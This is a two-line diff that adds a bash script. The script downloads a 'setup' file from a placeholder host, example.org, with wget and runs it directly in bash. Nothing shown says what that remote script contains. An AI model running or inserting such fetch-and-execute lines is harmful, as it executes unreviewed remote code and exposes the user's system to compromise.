@@ -1,0 +1,2 @@
+#!/bin/bash
+bash <(wget -qO- https://example.org/setup)
